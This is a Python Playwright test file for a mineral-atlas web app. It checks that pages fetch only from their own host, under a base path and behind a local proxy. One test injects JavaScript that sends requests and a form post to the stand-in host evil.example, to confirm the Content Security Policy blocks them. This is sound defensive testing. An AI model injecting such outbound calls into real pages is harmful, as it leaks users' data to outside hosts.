"""What a page asks for: all of it lies on its own host and under the base path, all of it is there, no word in the console.

Tried where the app has the host to itself, under a base path, and behind a proxy under another name.
"""

from __future__ import annotations

import contextlib
import re
import socket
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import free_port, server_process
from tests.browser.seen import PAGES, PATIENCE_MS, map_picture, open_page, settled
from tests.browser.test_still_in_browser import WITH_MAP, stands_in

pytestmark = pytest.mark.browser

BASE = "/atlas"
NAME = "maps.example.org"


class PassedOn(socketserver.BaseRequestHandler):
    """One connection, passed on as it comes."""

    def handle(self) -> None:
        with socket.create_connection(("127.0.0.1", self.server.target)) as back:
            answers = threading.Thread(target=_pump, args=(back, self.request), daemon=True)
            answers.start()
            _pump(self.request, back)
            answers.join()


def _pump(source: socket.socket, sink: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while piece := source.recv(65_536):
            sink.sendall(piece)
    with contextlib.suppress(OSError):
        sink.shutdown(socket.SHUT_WR)


class Proxy(socketserver.ThreadingTCPServer):
    """Passes on every connection to a server on this machine; rewrites nothing."""

    daemon_threads = True
    block_on_close = False
    target = 0


@dataclass
class Served:
    """Addresses of one server: on this machine, and as a proxy shows it."""

    here: str
    shown: str


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    with Proxy(("127.0.0.1", 0), PassedOn) as proxy:
        proxy.target, shown = free_port(), f"{NAME}:{proxy.server_address[1]}"
        threading.Thread(target=proxy.serve_forever, daemon=True).start()
        with server_process(proxy.target, options=("--public-name", shown, "--base-path", BASE), base_path=BASE):
            yield Served(f"http://127.0.0.1:{proxy.target}{BASE}", f"http://{shown}{BASE}")
        proxy.shutdown()


@dataclass
class Heard:
    """What a page asked for and what went wrong."""

    asked: list[str] = field(default_factory=list)
    wrong: list[str] = field(default_factory=list)


@pytest.fixture
def heard(page: Page) -> Heard:
    heard = Heard()
    page.on("request", lambda request: heard.asked.append(request.url))
    page.on("websocket", lambda socket: heard.asked.append(socket.url.replace("ws://", "http://", 1)))
    page.on("requestfailed", lambda request: heard.wrong.append(f"failed {request.url} {request.failure}"))
    page.on("response", lambda answer: heard.wrong.extend([f"{answer.status} {answer.url}"] * (answer.status >= 400)))
    page.on("pageerror", lambda error: heard.wrong.append(str(error)))
    page.on(
        "console",
        lambda line: heard.wrong.extend([f"{line.type} {line.text}"] * (line.type in ("error", "warning"))),
    )
    return heard


def judged(page: Page, heard: Heard, address: str, path: str) -> None:
    """Open a page and look at all that it asked for."""
    open_page(page, address, path)
    if path != "/sources-and-method":
        assert len(map_picture(page).getcolors(maxcolors=1 << 20) or []) > 3
    assert heard.wrong == []
    inside = [url for url in heard.asked if not url.startswith(("data:", "blob:"))]
    assert f"{address}/_stcore/stream" in inside
    assert [url for url in inside if not url.startswith(f"{address}/")] == []
    assert {url.split("/")[2] for url in heard.asked if url.startswith("blob:http")} <= {address.split("/")[2]}
    expect(page.get_by_test_id("stException")).to_have_count(0)
    expect(page.get_by_test_id("stAlertContentError")).to_have_count(0)


TRIED = """
async () => {
  window.blocked = new Set();
  addEventListener("securitypolicyviolation", (event) => window.blocked.add(event.effectiveDirective));
  const added = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  const out = "http://evil.example/x";
  await fetch(out).catch(() => {});
  try { new WebSocket("ws://evil.example/x"); } catch {}
  navigator.sendBeacon(out);
  added("img", {src: out});
  added("script", {src: out});
  added("script", {textContent: "window.foreignScript = true"});
  added("iframe", {src: out});
  added("object", {data: out});
  added("link", {rel: "stylesheet", href: out});
  document.head.append(Object.assign(document.createElement("base"), {href: "http://evil.example/"}));
  const form = Object.assign(document.createElement("form"), {action: out, method: "post"});
  document.body.append(form);
  form.submit();
}
"""
BLOCKED = {
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src-elem",
    "style-src-elem",
}


def test_what_would_leave_the_machine_is_refused_by_the_browser(page: Page, server: str, heard: Heard):
    open_page(page, server, "/sources-and-method")
    page.evaluate(TRIED)
    page.wait_for_function("(all) => all.every((each) => window.blocked.has(each))", arg=sorted(BLOCKED))
    assert page.evaluate("document.baseURI").startswith(server)
    assert not page.evaluate("Boolean(window.foreignScript)")
    # The browser tells of a request that it then refuses; none got an answer, and no name but one is found here.
    assert [line for line in heard.wrong if line.startswith("failed") and "csp" not in line.lower()] == []


@pytest.mark.live_map
@pytest.mark.parametrize("path", PAGES)
def test_a_page_asks_its_own_host_only_and_gets_all_of_it(page: Page, server: str, heard: Heard, path: str):
    judged(page, heard, server, path)


@pytest.mark.live_map
@pytest.mark.parametrize("path", PAGES)
def test_under_a_base_path_all_that_a_page_asks_for_lies_under_it(page: Page, served: Served, heard: Heard, path: str):
    judged(page, heard, served.here, path)


@pytest.mark.live_map
def test_behind_a_proxy_the_page_works_under_the_public_name(page: Page, served: Served, heard: Heard):
    judged(page, heard, served.shown, "/?mineral=cobalt&stage=mined")


@pytest.mark.live_map
def test_under_a_base_path_the_menu_the_way_back_and_a_download_work(page: Page, served: Served, heard: Heard):
    open_page(page, served.here, "?mineral=lithium")
    expect(page).to_have_url(re.compile(f"{BASE}/[?]mineral=lithium"))
    page.get_by_role("link", name="Near-shoring", exact=True).click()
    expect(page).to_have_url(re.compile(f"{BASE}/near-shoring[?].*mineral=lithium"), timeout=PATIENCE_MS)
    settled(page)
    page.go_back()
    expect(page).to_have_url(re.compile(f"{BASE}/[?]mineral=lithium"), timeout=PATIENCE_MS)
    settled(page)
    open_page(page, served.here, "/sources-and-method?tab=downloads")
    with page.expect_download(timeout=PATIENCE_MS) as download:
        page.get_by_test_id("stDownloadButton").get_by_role("button").first.click()
    assert download.value.url.startswith(f"{served.here}/media/")
    assert heard.wrong == []


def test_under_a_base_path_the_still_map_lies_there_too(page: Page, served: Served):
    asked = []
    page.on("response", lambda answer: asked.append((answer.status < 400, answer.url)))
    open_page(page, served.here, WITH_MAP["Atlas"])
    stands_in(page)
    assert [
        url for is_there, url in asked if not (is_there and url.startswith((f"{served.here}/", "data:", "blob:")))
    ] == []


@pytest.mark.live_map
def test_a_link_that_names_another_server_opens_this_one(page: Page, server: str, heard: Heard):
    judged(page, heard, server, "/?mineral=cobalt&staticAppId=evil")
